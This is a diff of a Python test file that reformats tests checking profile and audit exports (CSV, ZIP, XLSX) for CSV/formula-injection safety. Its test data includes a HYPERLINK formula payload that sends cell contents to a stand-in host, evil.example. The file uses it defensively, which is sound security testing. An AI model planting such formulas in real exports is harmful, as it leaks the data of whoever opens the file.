@@ -14,6 +14,7 @@ from types import SimpleNamespace
 import openpyxl
 import polars as pl
 import pytest
+from profile_world import World, build_world
 from sqlmodel import Session
 
 from profile_ui.models import FieldDefinition, Profile, ProfileTag, Tag, TagGroup, utcnow
@@ -23,8 +24,6 @@ from profile_ui.services.importing import ROW_COL
 from profile_ui.services.importing.results import write_error_file
 from profile_ui.services.profiles import ProfileFilter
 from profile_ui.settings import get_settings
-
-from profile_world import World, build_world
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
@@ -72,8 +71,12 @@ def _check_csv(data: bytes, name: str) -> None:
 
 def _check_xlsx(path: Path) -> None:
     # openpyxl leaves OOXML's _xHHHH_ escapes (how a CR is stored) as they are; Excel reads them
-    texts = {re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), str(v))
-             for row in _xlsx_cells(path) for v in row if v is not None}
+    texts = {
+        re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), str(v))
+        for row in _xlsx_cells(path)
+        for v in row
+        if v is not None
+    }
     for value in HOSTILE:  # a string cell with the text as it was
         assert value in texts, f"{path.name}: {value!r} is missing"
 
@@ -90,8 +93,7 @@ def world(session: Session, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> 
     for n, value in enumerate(HOSTILE):
         session.add(FieldDefinition(key=f"evil_{n}", label=value, type="text", position=90 + n))
         tag = Tag(group_id=group.id, name=value, kind="text")
-        profile = Profile(full_name=value, city=value, attributes={f"evil_{n}": value},
-                          created_at=now, updated_at=now)
+        profile = Profile(full_name=value, city=value, attributes={f"evil_{n}": value}, created_at=now, updated_at=now)
         session.add_all([tag, profile])
         session.flush()
         session.add(ProfileTag(profile_id=profile.id, tag_id=tag.id, value=value))
@@ -101,8 +103,7 @@ def world(session: Session, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> 
 
 @pytest.mark.parametrize("fmt", ["csv", "zip", "xlsx"])
 def test_profile_exports_neutralize_hostile_headers_and_cells(session, world, fmt):
-    result = export_profiles(session=session, actor=world.admin, flt=ProfileFilter(),
-                             fields_mode="all", fmt=fmt)
+    result = export_profiles(session=session, actor=world.admin, flt=ProfileFilter(), fields_mode="all", fmt=fmt)
     if fmt == "xlsx":
         _check_xlsx(result.path)
         return
@@ -128,8 +129,15 @@ def test_import_error_files_neutralize_hostile_headers_and_cells(tmp_path, fmt):
 
 def test_audit_csv_neutralizes_hostile_cells(session, world):
     for value in HOSTILE:
-        record_event(session=session, actor=world.admin, action="profile.edit", object_type="profile",
-                     object_id=value[:32], reason=value, details={"note": value})
+        record_event(
+            session=session,
+            actor=world.admin,
+            action="profile.edit",
+            object_type="profile",
+            object_id=value[:32],
+            reason=value,
+            details={"note": value},
+        )
     session.commit()
     out = io.BytesIO()
     export_audit_csv(session=session, actor=world.admin, out=out)
